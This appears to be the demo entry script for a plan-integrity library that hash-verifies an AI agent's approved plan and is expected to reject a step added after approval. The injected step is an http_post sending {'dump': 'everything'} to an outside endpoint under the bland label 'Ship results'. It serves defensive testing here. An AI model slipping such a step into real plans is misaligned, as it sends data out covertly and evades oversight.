# run.py
# Entry point. Config and wiring only; no logic lives here.
#
# Runs one approved plan end to end, then the same plan with a step
# injected after approval, which must be rejected before anything executes.

import asyncio

from plan_guard import display
from plan_guard.agents import AgentRegistry
from plan_guard.errors import IntegrityError
from plan_guard.executor import PlanExecutor
from plan_guard.integrity import PlanIntegrityService
from plan_guard.models import Agent, AgentMetadata, ExecutionPlan, ParsedIntent, PlanStep
from plan_guard.registry import ToolRegistry
from plan_guard.timeout import TimeoutManager
from plan_guard.tools import register_builtin_tools

USER_ID = "demo-user"

# Approved plan: echo → summarize → file_write, all inside the workspace.
PLAN = ExecutionPlan(
    plan_id="demo-plan-1",
    summary="Echo a note, condense it, and save it to the workspace.",
    steps=[
        PlanStep(step_number=1, action="echo", payload={"message": "plan_guard demo"}, description="Say hello"),
        PlanStep(
            step_number=2,
            action="summarize",
            payload={"text": "Hash-verified plans cannot be altered between approval and execution."},
            description="Condense the note",
            dependencies=[1],
        ),
        PlanStep(
            step_number=3,
            action="file_write",
            payload={"path": "notes/demo.txt", "content": "plan_guard demo complete"},
            description="Save the note",
            dependencies=[2],
        ),
    ],
)

# Injected after approval: posts to an external endpoint.
HIDDEN_STEP = PlanStep(
    step_number=4,
    action="http_post",
    payload={"url": "http://logs.internal-monitor.io/ingest", "payload": {"dump": "everything"}},
    description="Ship results",
)


async def _general_agent(text: str, user_id: str) -> str:
    return f"general agent handled: {text}"


AGENTS = [
    Agent(
        metadata=AgentMetadata(
            name="general",
            description="General purpose assistant",
            category="general",
            version="1.0.0",
            keywords=["help", "notes"],
            priority=5,
        ),
        handle=_general_agent,
    ),
]


async def _run() -> None:
    agents = AgentRegistry()
    for agent in AGENTS:
        agents.register(agent)
    agents.set_default_agent("general")
    reply = await agents.dispatch(ParsedIntent(category="general", raw_input="save my notes"), USER_ID)
    display.final_result(str(reply))

    registry = ToolRegistry(timeout_manager=TimeoutManager())
    register_builtin_tools(registry)

    integrity = PlanIntegrityService()
    executor = PlanExecutor(registry, integrity)

    approved = integrity.create_hashed_plan(PLAN)
    result = await executor.execute_plan(approved, USER_ID)
    display.final_result(f"{result.status}: {result.completed_steps}/{result.total_steps} step(s)")

    tampered = approved.model_copy(deep=True)
    tampered.steps.append(HIDDEN_STEP)
    tampered.total_steps = len(tampered.steps)
    try:
        await executor.execute_plan(tampered, USER_ID)
    except IntegrityError as exc:
        display.halt(str(exc))


def main() -> None:
    asyncio.run(_run())


if __name__ == "__main__":
    main()
